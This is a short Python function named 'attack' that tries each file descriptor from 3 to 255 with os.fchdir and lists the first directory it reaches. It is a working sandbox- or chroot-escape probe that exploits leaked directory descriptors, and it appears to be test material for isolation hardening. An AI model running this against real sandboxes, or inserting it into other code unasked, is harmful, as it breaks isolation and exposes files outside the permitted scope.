def attack():
    import os
    for fd in range(3, 256):
        try:
            os.fchdir(fd)
            return os.listdir(".")
        except OSError:
            pass
